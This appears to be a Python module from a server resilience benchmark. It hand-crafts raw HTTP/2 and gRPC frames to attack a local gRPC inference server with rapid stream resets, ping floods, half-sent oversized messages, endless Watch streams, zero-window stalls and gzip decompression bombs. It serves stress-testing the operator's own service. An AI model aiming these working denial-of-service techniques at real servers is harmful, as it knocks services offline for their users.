"""The callers of gRPC that attack in `benchmarks.resilience.hostile`, in bare frames: no client would send them.

    python -m benchmarks.resilience.grpc_clients KIND PORT SECONDS CALLERS PAUSE_S      attackers: see `ATTACKS`

Each attempt is a connection of its own. An attacker sends what the server's flow control lets pass, holds what it can
for as long as it is let, and begins again when it is thrown out. The last line is JSON: how many attempts ended how.
"""

import asyncio
import gzip
import json
import os
import re
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

HOST = "127.0.0.1"
KEY = os.environ.get("HOSTILE_KEY", "")
MESSAGE_BYTES = 15_900_000  # just below what the service allows by default
COLUMNS, ROWS = 1024, 3500  # of the model that answers with what it was asked
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACK = END_STREAM = 1
END_HEADERS = 4
INITIAL_WINDOW = 4  # the name of a setting
WINDOW = 65535
FRAME_BYTES = 16384
INFER = "/inference.GRPCInferenceService/ModelInfer"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
STATUS = re.compile(rb"grpc-status.(\d+)", re.DOTALL)
NAMES = {0: "OK", 1: "CANCELLED", 2: "UNKNOWN", 3: "INVALID_ARGUMENT", 4: "DEADLINE_EXCEEDED", 5: "NOT_FOUND"}
NAMES |= {8: "RESOURCE_EXHAUSTED", 12: "UNIMPLEMENTED", 13: "INTERNAL", 14: "UNAVAILABLE", 16: "UNAUTHENTICATED"}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def head(path: str, **more: str) -> bytes:
    """Write the block of headers of a call, nothing of it indexed or coded."""
    headers = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers"}
    headers |= {"content-type": "application/grpc"} | {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in headers.items())


def _string(text: str) -> bytes:
    size = len(text)
    if size < 127:
        return bytes([size]) + text.encode()
    size -= 127
    tail = b""
    while size >= 128:
        tail += bytes([size % 128 + 128])
        size //= 128
    return b"\x7f" + tail + bytes([size]) + text.encode()


def message(data: bytes, size: int | None = None, *, packed: bool = False) -> bytes:
    """Put gRPC's five bytes before a message; `size` is what they say where it is not the truth."""
    return struct.pack(">BI", packed, len(data) if size is None else size) + data


class Http2:
    """One connection as a client has it, with `window` bytes for each answer."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, window: int) -> None:
        self._reader, self._writer = reader, writer
        self._windows = {0: WINDOW}  # what may still be sent, on the connection and on each stream
        self._initial = WINDOW
        self._moved = asyncio.Event()
        self.statuses: dict[int, str] = {}  # of the streams that have ended
        self.sent_bytes = 0  # of messages
        self.received_bytes = 0  # of answers
        self.closed = False
        settings = struct.pack(">HI", INITIAL_WINDOW, window)
        self._writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        self._listening = asyncio.ensure_future(self._listen())

    @classmethod
    async def connect(cls, port: int, window: int = WINDOW, host: str = HOST) -> "Http2":
        return cls(*await asyncio.open_connection(host, port), window)

    def open(self, stream: int, block: bytes) -> None:
        self._windows[stream] = self._initial
        self._writer.write(frame(HEADERS, END_HEADERS, stream, block))

    def write(self, frames: bytes) -> None:
        self._writer.write(frames)

    async def send(self, stream: int, data: bytes, *, end: bool = True) -> None:
        """Send what flow control lets pass, until all is sent or the stream has ended."""
        at = 0
        while at < len(data) and stream not in self.statuses and not self.closed:
            room = min(self._windows[0], self._windows[stream], FRAME_BYTES)
            if room <= 0:
                self._moved.clear()
                await self._moved.wait()
                continue
            piece = data[at : at + room]
            at += len(piece)
            self.sent_bytes += len(piece)
            self._windows[0] -= len(piece)
            self._windows[stream] -= len(piece)
            last = end and at == len(data)
            self._writer.write(frame(DATA, END_STREAM if last else 0, stream, piece))
            await self._writer.drain()

    async def ended(self, stream: int) -> str:
        """Wait for the end of a stream: the name of its status, or what else ended it."""
        while stream not in self.statuses and not self.closed:
            self._moved.clear()
            await self._moved.wait()
        return self.statuses.get(stream, "closed")

    def abort(self) -> None:
        self._listening.cancel()
        self._writer.transport.abort()

    async def _listen(self) -> None:
        try:
            while True:
                header = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(header[:3], "big"))
                self._take(header[3], header[4], int.from_bytes(header[5:], "big"), payload)
                self._moved.set()
        except (OSError, EOFError):
            self.closed = True
            self._moved.set()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self._settle(payload)
            self._writer.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._writer.write(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            self._windows[stream] = self._windows.get(stream, self._initial) + int.from_bytes(payload, "big")
        elif kind == DATA:
            self.received_bytes += len(payload)
        elif kind == HEADERS and (found := STATUS.search(payload)):
            self.statuses[stream] = NAMES.get(int(found[1]), found[1].decode())
        elif kind == HEADERS and flags & END_STREAM:
            self.statuses[stream] = "ended"  # by a status that was named before, and is a number in a table now
        elif kind == RST_STREAM:
            self.statuses.setdefault(stream, "reset")

    def _settle(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            name, value = struct.unpack_from(">HI", payload, at)
            if name == INITIAL_WINDOW:
                for stream in self._windows.keys() - {0}:
                    self._windows[stream] += value - self._initial
                self._initial = value


# ── what attackers send ──

Attempt = Callable[[int], Awaitable[str]]
"""One attempt at the server of a port ─> how it ended."""


def keyed() -> dict[str, str]:
    return {"x_api_key": KEY} if KEY else {}


def call(path: str, body: Callable[[], bytes], *, key: bool = True, window: int = WINDOW, **more: str) -> Attempt:
    """Send a whole message, or what `body` has of one, and wait for the end."""

    async def attempt(port: int) -> str:
        connection = await Http2.connect(port, window)
        try:
            connection.open(1, head(path, **(keyed() if key else {}), **more))
            await connection.send(1, body())
            return await connection.ended(1)
        finally:
            connection.abort()

    return attempt


def half(path: str, *, key: bool = True) -> Attempt:
    """Announce a message, send half of it, and wait."""

    async def attempt(port: int) -> str:
        connection = await Http2.connect(port)
        try:
            connection.open(1, head(path, **(keyed() if key else {})))
            await connection.send(1, message(bytes(MESSAGE_BYTES // 2), MESSAGE_BYTES), end=False)
            return await connection.ended(1)
        finally:
            connection.abort()

    return attempt


def watchers(count: int) -> Attempt:
    """Open streams that never end."""

    async def attempt(port: int) -> str:
        connection = await Http2.connect(port)
        try:
            for stream in range(1, 2 * count, 2):
                connection.open(stream, head(WATCH))
                await connection.send(stream, message(b""), end=False)
            return await connection.ended(2 * count - 1)
        finally:
            connection.abort()

    return attempt


def resets() -> Attempt:
    """Open calls and reset each at once, as fast as may be."""

    async def attempt(port: int) -> str:
        connection = await Http2.connect(port)
        try:
            for stream in range(1, 20_000, 2):
                connection.open(stream, head(CHECK))
                connection.write(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                if stream % 100 == 1:
                    await asyncio.sleep(0)
                if connection.closed:
                    break
            return "closed" if connection.closed else "sent all"
        finally:
            connection.abort()

    return attempt


def pings() -> Attempt:
    """Ping without a pause."""

    async def attempt(port: int) -> str:
        connection = await Http2.connect(port)
        try:
            while not connection.closed:
                connection.write(frame(PING, 0, 0, bytes(8)) * 100)
                await asyncio.sleep(0.001)
            return "closed"
        finally:
            connection.abort()

    return attempt


def echo_request(rows: int = ROWS) -> bytes:
    """Write a ModelInfer request for the model `echo`, by hand: field by field, each behind its number and length."""
    shape = b"\x1a" + _varint_field(_varint(rows) + _varint(COLUMNS))
    tensor = b"\x0a\x01x" + b"\x12\x04FP32" + shape
    return b"\x0a\x04echo" + b"\x2a" + _varint_field(tensor) + b"\x3a" + _varint_field(bytes(4 * rows * COLUMNS))


def _varint_field(data: bytes) -> bytes:
    return _varint(len(data)) + data


def _varint(number: int) -> bytes:
    parts = bytearray()
    while number >= 128:
        parts.append(number % 128 + 128)
        number //= 128
    return bytes([*parts, number])


def _once(make: Callable[[], bytes]) -> Callable[[], bytes]:
    made = make()
    return lambda: made


ATTACKS: dict[str, Callable[[], Attempt]] = {
    "no-key": lambda: call(INFER, _once(lambda: message(bytes(MESSAGE_BYTES))), key=False),
    "whole": lambda: call(INFER, _once(lambda: message(bytes(MESSAGE_BYTES)))),
    "half": lambda: half(INFER),
    "half-health": lambda: half(CHECK, key=False),
    "whole-health": lambda: call(CHECK, _once(lambda: message(bytes(MESSAGE_BYTES))), key=False),
    "unread": lambda: call(INFER, _once(lambda: message(echo_request())), window=0),
    "bombs": lambda: call(
        INFER, _once(lambda: message(gzip.compress(bytes(MESSAGE_BYTES)), packed=True)), grpc_encoding="gzip"
    ),
    "watchers": lambda: watchers(500),
    "resets": resets,
    "pings": pings,
}


async def attack(kind: str, port: int, seconds: float, callers: int, pause_s: float) -> Counter[str]:
    """Attack with so many callers at once for so long; return how their attempts ended."""
    attempt, seen, end = ATTACKS[kind](), Counter[str](), time.monotonic() + seconds

    async def caller() -> None:
        while time.monotonic() < end:
            seen[await _attempt(port, attempt, end)] += 1
            await asyncio.sleep(pause_s)

    await asyncio.gather(*(caller() for _ in range(callers)))
    return seen


async def _attempt(port: int, attempt: Attempt, end: float) -> str:
    try:
        return await asyncio.wait_for(attempt(port), max(0.1, end - time.monotonic()))
    except TimeoutError:
        return "held to the end"
    except OSError as error:
        await asyncio.sleep(0.1)
        return type(error).__name__


def main(kind: str, port: str, seconds: str, callers: str, pause_s: str) -> None:
    """Attack, and print what came of it."""
    print(json.dumps(asyncio.run(attack(kind, int(port), float(seconds), int(callers), float(pause_s)))))


if __name__ == "__main__":
    main(*sys.argv[1:])
